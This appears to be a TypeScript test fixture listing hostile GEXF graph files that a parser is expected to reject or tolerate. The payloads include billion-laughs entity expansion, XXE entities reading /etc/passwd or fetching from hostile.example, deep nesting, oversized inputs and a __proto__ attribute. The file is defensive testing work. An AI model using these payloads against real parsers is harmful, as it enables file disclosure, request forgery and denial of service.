import { inputsOf, several, type HostileInput, type Written } from './input.ts';

const gexf = (number: number, ...written: Written[]): HostileInput[] =>
  inputsOf(number, '.gexf', ...written);

const graph = (inside: string, before = ''): string =>
  `<?xml version="1.0"?>${before}<gexf version="1.3"><graph defaultedgetype="directed">${inside}</graph></gexf>`;
const NODES = '<nodes><node id="1" label="Mairie"/><node id="2" label="AMAP"/></nodes>';
const EDGES = '<edges><edge source="1" target="2"/></edges>';
const laughs = (count: number): string =>
  `<!DOCTYPE g [<!ENTITY a0 "ha">${several(count, (at) => `<!ENTITY a${String(at + 1)} "${`&a${String(at)};`.repeat(10)}">`).join('')}]>`;
const node = (label: string): string => graph(`<nodes><node id="1" label="${label}"/></nodes>`);

/** What is wrong with a network in XML. */
export const XML_INPUTS: readonly HostileInput[] = [
  ...gexf(72, [
    'a billion laughs',
    graph('<nodes><node id="1" label="&a9;"/></nodes>', laughs(9)),
    'R',
    'document-type'
  ]),
  ...gexf(73, [
    'an entity of 50 kB five thousand times',
    () =>
      graph(
        `<nodes><node id="1" label="${'&a;'.repeat(5_000)}"/></nodes>`,
        `<!DOCTYPE g [<!ENTITY a "${'A'.repeat(50_000)}">]>`
      ),
    // Its first element is so far that it is not known for a graph.
    'R',
    'other-file'
  ]),
  ...gexf(
    74,
    [
      'an entity that reads a file',
      graph(NODES, '<!DOCTYPE g [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
      'R',
      'document-type'
    ],
    [
      'an entity that reads an address',
      graph(NODES, '<!DOCTYPE g [<!ENTITY x SYSTEM "http://hostile.example/x">]>'),
      'R',
      'document-type'
    ],
    [
      'a parameter that reads an address',
      graph(NODES, '<!DOCTYPE g [<!ENTITY % p SYSTEM "http://hostile.example/p">%p;]>'),
      'R',
      'document-type'
    ]
  ),
  ...gexf(75, ['a document type', graph(NODES, '<!DOCTYPE gexf>'), 'R', 'document-type']),
  ...gexf(
    76,
    ['a million levels', () => graph('<a>'.repeat(1e6) + '</a>'.repeat(1e6)), 'R', 'too-deep'],
    ['a million levels never closed', () => graph('<a>'.repeat(1e6)), 'R', 'too-deep']
  ),
  ...gexf(
    77,
    [
      'two hundred thousand attributes',
      () => graph(`<nodes><node id="1" ${attributes(200_000)}/></nodes>`),
      'R',
      'too-many'
    ],
    ['one attribute twice', graph('<nodes><node id="1" id="2"/></nodes>'), 'R', 'not-xml']
  ),
  ...gexf(
    78,
    ['a reference to zero', node('&#0;'), 'R', 'not-xml'],
    ['a reference to a control character', node('&#1;'), 'R', 'not-xml'],
    ['a reference to half a character', node('&#xD800;'), 'R', 'not-xml'],
    ['a reference beyond characters', node('&#x110000;'), 'R', 'not-xml'],
    [
      'UTF-7',
      graph(NODES).replace('version="1.0"', 'version="1.0" encoding="UTF-7"'),
      'R',
      'not-utf-8'
    ]
  ),
  ...gexf(
    79,
    ['two roots', `${graph(NODES)}<gexf/>`, 'R', 'not-xml'],
    ['something after the end', `${graph(NODES)}plus`, 'R', 'not-xml'],
    ['a comment of 5 MB never closed', () => graph(`<!--${'-'.repeat(5e6)}`), 'R', 'not-xml'],
    ['a text of 20 MB', () => graph(`${NODES}${EDGES}<x>${'x'.repeat(2e7)}</x>`), 'O'],
    ['a million entities', () => graph(`${NODES}${EDGES}<x>${'&amp;'.repeat(1e6)}</x>`), 'O']
  ),
  ...gexf(
    80,
    [
      'a link to nobody',
      graph(`${NODES}<edges><edge source="1" target="9"/></edges>`),
      'Q',
      'undeclared-actors'
    ],
    ['an actor twice', graph(NODES.replace('id="2"', 'id="1"')), 'Q', 'repeated-actors'],
    ['a link twice', graph(`${NODES}${EDGES.replace('<edge ', `${link('1', '2')}<edge `)}`), 'O'],
    [
      'an attribute called __proto__',
      graph(
        `<attributes class="node"><attribute id="0" title="__proto__" type="string"/></attributes>${NODES.replace('label="Mairie"/>', 'label="Mairie"><attvalues><attvalue for="0" value="x"/></attvalues></node>')}${EDGES}`
      ),
      'O'
    ],
    [
      'a hundred thousand actors',
      () => graph(`<nodes>${several(1e5, (at) => `<node id="${String(at)}"/>`).join('')}</nodes>`),
      'R',
      'too-many'
    ]
  )
];

function attributes(count: number): string {
  return several(count, (at) => `b${String(at)}="x"`).join(' ');
}

function link(source: string, target: string): string {
  return `<edge source="${source}" target="${target}"/>`;
}
